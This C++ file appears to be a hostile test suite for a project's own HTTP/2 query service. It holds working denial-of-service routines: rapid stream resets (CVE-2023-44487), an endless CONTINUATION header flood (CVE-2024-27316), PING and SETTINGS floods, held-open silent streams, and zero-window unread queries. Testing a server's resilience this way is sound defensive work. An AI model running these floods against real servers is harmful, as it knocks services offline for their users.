#include <memory>
#include <vector>

#include "absl/strings/str_cat.h"
#include "fleetperf/v1/query.pb.h"
#include "tests/hostile/attacks.h"
#include "tests/hostile/http2_connection.h"

namespace fleetperf::testing {
namespace {

constexpr char kQueryRange[] = "/fleetperf.v1.QueryService/QueryRange";

// Sends what `next` returns on one connection after the other.
void FloodConnections(const Target& target, const Stop& stop,
                      const std::function<std::string()>& next) {
  while (!stop()) {
    Http2Connection connection(target.port, target.reader);
    while (!stop() && connection.Send(next())) {
    }
  }
}

// CVE-2023-44487: streams that are reset as soon as they begin.
void ResetRapidly(const Target& target, const Stop& stop) {
  uint32_t stream = 1;
  FloodConnections(target, stop, [&] {
    std::string bytes;
    for (int i = 0; i < 50; ++i, stream += 2) {
      absl::StrAppend(
          &bytes, CallFrame(stream, kQueryRange),
          Frame(kResetFrame, 0, stream, std::string("\0\0\0\x8", 4)));
    }
    return bytes;
  });
}

// CVE-2024-27316: headers that never end.
void ContinueHeaders(const Target& target, const Stop& stop) {
  while (!stop()) {
    Http2Connection connection(target.port, target.reader);
    connection.Send(Frame(kHeadersFrame, 0, 1, ""));
    // Literal fields, as a block of headers has them.
    std::string fields;
    while (fields.size() < 15'000) {
      absl::StrAppend(&fields, std::string("\0\1a\x7e", 4),
                      std::string(0x7e, 'b'));
    }
    while (!stop() &&
           connection.Send(Frame(kContinuationFrame, 0, 1, fields))) {
    }
  }
}

void Ping(const Target& target, const Stop& stop) {
  std::string pings;
  for (int i = 0; i < 100; ++i) {
    pings += Frame(kPingFrame, 0, 0, "12345678");
  }
  FloodConnections(target, stop, [&] { return pings; });
}

void ChangeSettings(const Target& target, const Stop& stop) {
  std::string changes;
  for (int i = 0; i < 100; ++i) changes += Frame(kSettingsFrame, 0, 0, "");
  FloodConnections(target, stop, [&] { return changes; });
}

// Streams without Hello, as many as there may be.
void OpenSilentStreams(const Target& target, const Stop& stop) {
  constexpr int kConnections = 20;
  constexpr uint32_t kStreams = 128;
  std::vector<std::unique_ptr<Http2Connection>> connections;
  while (!stop()) {
    std::erase_if(connections,
                  [](auto& one) { return !one->ReadAndAcknowledge(); });
    if (connections.size() == kConnections) continue;
    auto connection =
        std::make_unique<Http2Connection>(target.port, target.agent);
    for (uint32_t i = 0; i < kStreams; ++i) {
      connection->Send(CallFrame(2 * i + 1, kCollect));
    }
    connections.push_back(std::move(connection));
  }
}

// Queries whose answers are never read, on a connection that answers pings.
void ReadNothing(const Target& target, const Stop& stop) {
  // SETTINGS_INITIAL_WINDOW_SIZE is 0.
  const std::string settings("\0\4\0\0\0\0", 6);
  v1::QueryRangeRequest request;
  request.add_paths("\\Numbers\\Number");
  request.mutable_since()->set_seconds(86'400);
  const std::string message = request.SerializeAsString();
  while (!stop()) {
    Http2Connection connection(target.port, target.reader, settings);
    for (uint32_t i = 0; i < 64; ++i) {
      connection.Send(CallFrame(2 * i + 1, kQueryRange) +
                      MessageFrame(2 * i + 1, message));
    }
    while (!stop() && connection.ReadAndAcknowledge()) {
    }
  }
}

}  // namespace

std::vector<Attack> ConnectionAttacks() {
  std::vector<Attack> attacks = StrangerAttacks("", &Target::port);
  attacks.insert(attacks.end(), {{"rapid reset", ResetRapidly},
                                 {"endless headers", ContinueHeaders},
                                 {"pings", Ping},
                                 {"settings", ChangeSettings},
                                 {"silent streams", OpenSilentStreams},
                                 {"answers not read", ReadNothing}});
  return attacks;
}

}  // namespace fleetperf::testing
